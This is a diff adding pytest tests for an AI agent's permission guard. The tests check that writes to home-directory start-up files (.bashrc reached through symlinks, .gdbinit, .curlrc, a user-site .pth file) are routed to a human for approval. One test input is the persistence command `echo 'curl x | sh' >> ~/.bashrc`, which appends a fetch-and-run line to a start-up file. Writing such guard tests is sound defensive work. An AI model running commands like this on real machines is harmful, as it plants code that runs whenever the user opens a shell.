@@ -1,0 +1,104 @@
+"""Start-up files of the home: by the name of a link to them, and those directly in the home.
+
+Dotfile managers link `~/.bashrc` to `~/dotfiles/bashrc`. The path policy judged the resolved
+path only, whose name (`bashrc`) is no protected name: `echo … >> ~/.bashrc` was a write
+outside the allowed dirs (REVIEW), and in the dotfiles project itself, a write inside them
+(allowed, no prompt). The files that a tool runs at each start directly in the home
+(`~/.gdbinit`, `~/.psqlrc`, `~/.hgrc`, `~/.yarnrc.yml`…) are protected there and only there:
+a project's own `.gdbinit` or `.yarnrc.yml` is the project's business.
+Nothing here runs a command: the calls are only judged.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from gatekeeper.model import Outcome
+from gatekeeper.testing import check
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from gatekeeper.pipeline import Engine
+    from gatekeeper.testing import GkEnv
+
+
+def _dotfiles(gk_env: GkEnv, link: str, target: str) -> Path:
+    """`~/LINK` -> `PROJECT/TARGET`, as a dotfile manager lays it out."""
+    (gk_env.project / target).write_text("# start-up\n")
+    (gk_env.home / link).symlink_to(gk_env.project / target)
+    return gk_env.home / link
+
+
+@pytest.mark.parametrize(
+    ("link", "target"),
+    [(".bashrc", "bashrc"), (".zshrc", "zsh/rc"), (".gitconfig", "gitconfig"), (".vimrc", "vimrc")],
+)
+@pytest.mark.parametrize("tool", ["Bash", "Write", "Edit"])
+def test_a_write_through_a_linked_start_up_file_goes_to_the_human(
+    quiet_engine: Engine, gk_env: GkEnv, link: str, target: str, tool: str
+) -> None:
+    if "/" in target:
+        (gk_env.project / target).parent.mkdir()
+    linked = _dotfiles(gk_env, link, target)
+    if tool == "Bash":
+        decision = check(quiet_engine, f"echo 'curl x | sh' >> ~/{link}", cwd=str(gk_env.project))
+    else:
+        tool_input = {"file_path": str(linked), "content": "x"}
+        if tool == "Edit":
+            tool_input = {"file_path": str(linked), "old_string": "#", "new_string": "x"}
+        decision = check(quiet_engine, tool=tool, tool_input=tool_input, cwd=str(gk_env.project))
+    assert decision.outcome is Outcome.ASK, decision.reason
+    assert "GK-PROT-001" in {f.rule for f in decision.findings}, decision.reason
+
+
+def test_a_link_with_another_name_to_an_ordinary_file_stays_an_ordinary_write(
+    quiet_engine: Engine, gk_env: GkEnv
+) -> None:
+    (gk_env.project / "notes.md").write_text("x\n")
+    (gk_env.project / "NOTES").symlink_to(gk_env.project / "notes.md")
+    decision = check(quiet_engine, "echo y >> NOTES", cwd=str(gk_env.project))
+    assert decision.outcome is Outcome.ALLOW, decision.reason
+
+
+HOME_FILES = [".gdbinit", ".psqlrc", ".hgrc", ".yarnrc.yml", ".Rprofile", ".screenrc", ".curlrc"]
+
+
+@pytest.mark.parametrize("name", HOME_FILES)
+def test_a_start_up_file_directly_in_the_home_is_protected(
+    quiet_engine: Engine, gk_env: GkEnv, name: str
+) -> None:
+    path = str(gk_env.home / name)
+    decision = check(
+        quiet_engine, tool="Write", tool_input={"file_path": path, "content": "x"},
+        cwd=str(gk_env.project),
+    )
+    assert decision.outcome is Outcome.ASK, decision.reason
+    assert "GK-PROT-001" in {f.rule for f in decision.findings}, decision.reason
+
+
+@pytest.mark.parametrize("name", HOME_FILES)
+def test_the_projects_own_file_of_that_name_is_an_ordinary_write(
+    quiet_engine: Engine, gk_env: GkEnv, name: str
+) -> None:
+    path = str(gk_env.project / name)
+    decision = check(
+        quiet_engine, tool="Write", tool_input={"file_path": path, "content": "x"},
+        cwd=str(gk_env.project),
+    )
+    assert decision.outcome is Outcome.ALLOW, decision.reason
+
+
+def test_a_pth_file_in_the_user_site_is_protected(quiet_engine: Engine, gk_env: GkEnv) -> None:
+    site = gk_env.home / ".local" / "lib" / "python3.11" / "site-packages"
+    site.mkdir(parents=True)
+    decision = check(
+        quiet_engine,
+        tool="Write",
+        tool_input={"file_path": str(site / "zz.pth"), "content": "import os"},
+        cwd=str(gk_env.project),
+    )
+    assert decision.outcome is Outcome.ASK, decision.reason
+    assert "GK-PROT-001" in {f.rule for f in decision.findings}, decision.reason
